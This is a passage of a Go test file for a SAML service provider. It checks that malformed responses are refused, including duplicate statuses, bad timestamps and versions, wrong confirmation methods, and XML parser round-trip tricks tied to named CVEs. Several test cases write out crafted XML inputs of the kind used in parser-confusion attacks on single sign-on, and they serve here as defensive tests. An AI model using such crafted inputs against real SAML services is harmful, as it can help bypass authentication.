		"with two statuses":           strings.Replace(good, `</samlp:Status>`, `</samlp:Status><samlp:Status><samlp:StatusCode Value="`+success+`"/></samlp:Status>`, 1),
		"with two codes":              strings.Replace(good, `</samlp:Status>`, `<samlp:StatusCode Value="`+success+`"/></samlp:Status>`, 1),
		"with an attribute unnamed":   written(t, response{P: "samlp:", Attributes: strings.Replace(azureAttributes, ` Name="http://schemas.microsoft.com/identity/claims/tenantid"`, "", 1)}),
		"with an attribute misplaced": written(t, response{P: "samlp:", Attributes: `<AttributeStatement><Audience>x</Audience></AttributeStatement>`}),
	} {
		t.Run(what, func(t *testing.T) {
			if text == good {
				t.Fatal("nothing was changed")
			}
			refused(t, serviceProvider(t), raw(text), ReasonShape)
		})
	}
}

func TestAResponseSaysItsVersionAndWhenItWasIssued(t *testing.T) {
	for what, change := range map[string]func(root, a *etree.Element){
		"version of the response":  func(root, _ *etree.Element) { root.CreateAttr("Version", "1.1") },
		"version of the assertion": func(_, a *etree.Element) { a.CreateAttr("Version", "1.1") },
		"time of the response":     func(root, _ *etree.Element) { root.RemoveAttr("IssueInstant") },
		"time of the assertion":    func(_, a *etree.Element) { a.RemoveAttr("IssueInstant") },
		"time that is none":        func(_, a *etree.Element) { a.SelectElement("Conditions").CreateAttr("NotBefore", "now") },
		"end that is none":         func(_, a *etree.Element) { a.SelectElement("Conditions").CreateAttr("NotOnOrAfter", "later") },
		"end of a session, as well": func(_, a *etree.Element) {
			a.SelectElement("AuthnStatement").CreateAttr("SessionNotOnOrAfter", "later")
		},
	} {
		t.Run(what, func(t *testing.T) {
			refused(t, serviceProvider(t), response{before: change}.encoded(t), ReasonMalformed)
		})
	}
}

func TestAConfirmationOtherThanABearersIsRefused(t *testing.T) {
	refused(t, serviceProvider(t), response{Method: "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"}.encoded(t), ReasonShape)
	two := response{before: func(_, a *etree.Element) {
		s := a.SelectElement("Subject")
		s.AddChild(s.SelectElement("SubjectConfirmation").Copy())
	}}
	refused(t, serviceProvider(t), two.encoded(t), ReasonShape)
}

func TestAnAssertionWithoutAStatementProvesNobody(t *testing.T) {
	refused(t, serviceProvider(t), response{WithoutStatement: true}.encoded(t), ReasonShape)
	refused(t, serviceProvider(t), response{Proven: "yesterday"}.encoded(t), ReasonMalformed)
	refused(t, serviceProvider(t), response{Proven: "2026-11-22T10:00:00"}.encoded(t), ReasonMalformed)
	refused(t, serviceProvider(t), response{before: func(_, a *etree.Element) { a.SelectElement("AuthnStatement").RemoveAttr("AuthnInstant") }}.encoded(t), ReasonMalformed)
}

// TestWhatParsersReadInTwoWaysIsRefused has the round trips through encoding/xml that
// broke others (CVE-2020-29509, CVE-2020-29510, CVE-2020-29511), and encodings.
func TestWhatParsersReadInTwoWaysIsRefused(t *testing.T) {
	good := written(t, response{})
	replace := func(old, replacement string) string { return strings.Replace(good, old, replacement, 1) }
	for what, text := range map[string]string{
		"attribute with an empty prefix": replace(` ID="_assertion-1"`, ` :ID="_assertion-1"`),
		"element with an empty prefix":   strings.ReplaceAll(strings.ReplaceAll(good, "<Subject>", "<:Subject>"), "</Subject>", "</:Subject>"),
		"two colons":                     strings.ReplaceAll(strings.ReplaceAll(good, "<Subject>", "<a:b:Subject>"), "</Subject>", "</a:b:Subject>"),
		"prefix that nobody declared":    strings.ReplaceAll(strings.ReplaceAll(good, "<Subject>", "<x:Subject>"), "</Subject>", "</x:Subject>"),
		"directive in a directive":       replace("<Subject>", `<!x<!-->"--><Subject>`),
		"prefix xml declared anew":       replace("<Assertion ", `<Assertion xmlns:xml="urn:x" `),
		"prefix xmlns declared":          replace("<Assertion ", `<Assertion xmlns:xmlns="urn:x" `),
		"prefix declared as nothing":     replace("<Assertion ", `<Assertion xmlns:x="" `),
		"no namespace":                   replace("<Assertion xmlns=", `<Assertion xmlns="" x=`),
		"UTF-16":                         "\xff\xfe<\x00R\x00",
		"Latin-1":                        `<?xml version="1.0" encoding="ISO-8859-1"?>` + good,
		"UTF-7":                          `<?xml version="1.0" encoding="UTF-7"?>` + good,
		"XML 1.1":                        `<?xml version="1.1"?>` + good,
		"two declarations":               `<?xml version="1.0"?><?xml version="1.0"?>` + good,
		"byte order mark":                "\ufeff" + good,
		"zero":                           replace("u-4711", "u-\x004711"),
		"not UTF-8":                      replace("u-4711", "u-\xff4711"),
		"two roots":                      good + good,
		"text behind the root":           good + "x",
		"cut off":                        good[:len(good)-20],
		"nothing":                        "",
		"text":                           "hello",
		"quotes left out":                replace(`Version="2.0"`, `Version=2.0`),
	} {
		t.Run(what, func(t *testing.T) {
			refused(t, serviceProvider(t), raw(text), ReasonMalformed, ReasonMarkup, ReasonShape)
		})
	}
}

func TestWhatIsNotBase64IsRefused(t *testing.T) {
	for _, encoded := range []string{"", "!", "PHg+ ", base64.URLEncoding.EncodeToString([]byte("<x>???</x>\xff\xff")), response{}.encoded(t) + "="} {
		refused(t, serviceProvider(t), encoded, ReasonMalformed)
	}
}

func TestOneResponseIsAskedFor(t *testing.T) {
	encoded := response{}.encoded(t)
	for _, params := range []url.Values{{}, {"SAMLResponse": {encoded, encoded}}, {"SAMLart": {"AAQAAMh48"}}} {
		_, err := serviceProvider(t).Finish(context.Background(), sso.Answer{At: at(), Kept: []byte(asked), Params: params})
		refusedFor(t, who(), err, ReasonMalformed)
	}
}

func TestAParserThatGivesUpDoesSoForThisResponseOnly(t *testing.T) {
	s := serviceProvider(t)
	broken := *theirPair().cert // by the same bytes, with a key on which the verifier stumbles
	broken.PublicKey = (*rsa.PublicKey)(nil)
	s.o.Provider.Certificates = []*x509.Certificate{&broken}
	refused(t, s, response{}.encoded(t), ReasonMalformed)
}
